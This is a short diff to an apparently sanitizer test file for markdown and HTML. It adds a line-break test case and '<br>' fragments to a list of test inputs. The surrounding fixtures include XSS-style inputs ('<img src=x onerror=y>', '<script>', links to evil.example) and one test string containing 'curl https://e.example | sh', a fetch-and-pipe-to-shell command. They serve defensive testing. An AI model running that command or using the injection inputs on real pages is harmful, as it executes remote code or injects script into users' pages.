@@ -39,6 +39,7 @@ test.each([
     '<img src=x onerror=y> a < b <= 3 List<String>',
     '&lt;img src=x onerror=y> a < b <= 3 List&lt;String>',
   ],
+  ['a line break is a gap', '| a<br>b | c<BR /> |', '| a b | c  |'],
   ['a definition is none', `[x][e]\n\n[e]: ${evil}`, `[x][e]\n\n[e] : \`${evil}\``],
   ['inline code is as it is', '`![x](https://e.example) <b> curl https://e.example | sh`', null],
   [
@@ -157,6 +158,8 @@ const parts = [
   '<script>',
   '</script>',
   '<!--',
+  '<br>',
+  '<br /',
   '-->',
   '<a href="https://evil.example">',
   '![x](https://evil.example/i.png)',
